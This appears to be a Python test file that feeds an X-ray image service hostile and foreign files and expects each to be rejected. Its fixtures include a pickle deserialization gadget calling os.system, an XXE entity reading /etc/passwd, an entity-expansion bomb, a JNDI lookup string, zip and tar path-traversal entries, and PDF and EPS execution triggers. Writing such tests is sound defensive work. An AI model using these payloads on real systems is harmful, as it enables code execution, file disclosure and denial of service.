"""Files of other formats: none may reach a parser, however many Pillow knows."""

import gzip
import io
import os
import pickle
import tarfile
import zipfile
from collections.abc import Iterator

from PIL import Image

from tests.hostile import dicom_files
from tests.hostile.case import Case
from xray.phantom import draw
from xray.reasons import Reason


class _Evil:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("touch pwned",)


def picture(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.fromarray(draw(1, height=96, width=96)).convert("RGB").save(buffer, kind)
    return buffer.getvalue()


def archive(name: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr(name, '{"class_name": "Lambda"}')
    return buffer.getvalue()


def tape() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as file:
        file.addfile(tarfile.TarInfo("../../../etc/cron.d/evil"))
    return buffer.getvalue()


_PHOTOSHOP = b"8BPS\0\1" + bytes(6) + b"\0\1\0\0\x10\0\0\0\x10\0\0\x08\0\1" + bytes(99)
_SVG = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
_LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "' + b"&a;" * 99 + b'">]><l>&b;</l>'


def cases() -> Iterator[Case]:
    foreign = Reason.UNKNOWN_FORMAT
    yield Case("empty.png", Reason.EMPTY, lambda: b"")
    yield Case("one byte.dcm", foreign, lambda: b"\xff")
    yield Case("zeros.dcm", foreign, lambda: bytes(1 << 20))
    yield Case("text.jpg", foreign, lambda: b"%s%n%x {0} ${jndi:ldap://example.org/a}\n" * 9)
    yield Case("utf-16.jpg", foreign, lambda: "picture".encode("utf-16"))
    yield Case("pickle.npy", foreign, lambda: pickle.dumps(_Evil()))
    yield Case(
        "numpy.npy", foreign, lambda: b"\x93NUMPY\1\0\x46\0{'descr': '|O', 'shape': (1,)}" + pickle.dumps(_Evil())
    )
    yield Case("model.keras", foreign, lambda: archive("config.json"))
    yield Case("model.h5", foreign, lambda: b"\x89HDF\r\n\x1a\n" + bytes(99))
    yield Case("model.tflite", foreign, lambda: b"\x1c\0\0\0TFL3" + bytes(99))
    yield Case("archive.zip", foreign, lambda: archive("../../../evil.sh"))
    yield Case("tape.tar", foreign, tape)
    yield Case("radiograph.dcm.gz", foreign, lambda: gzip.compress(dicom_files.file()))
    yield Case("vector.svg", foreign, lambda: _SVG)
    yield Case("laughs.xml", foreign, lambda: _LAUGHS)
    yield Case("page.html", foreign, lambda: b"<!doctype html><script>alert(1)</script>")
    yield Case("document.pdf", foreign, lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/Launch>>>>endobj")
    yield Case("script.eps", foreign, lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(id) run")
    yield Case("photoshop.psd", foreign, lambda: _PHOTOSHOP)
    for kind in ("GIF", "WEBP", "BMP", "ICO", "PPM", "TGA", "PCX", "SGI", "DDS", "JPEG2000"):
        yield Case(f"picture of another kind.{kind.lower()}", foreign, lambda kind=kind: picture(kind))
    yield Case("program.jpg", foreign, lambda: b"\x7fELF\2\1\1" + bytes(99))
    yield Case("script.jpg", foreign, lambda: b"#!/bin/sh\ntouch pwned\n")
    yield Case("header only.nii", foreign, lambda: b"\x5c\1\0\0" + bytes(344))
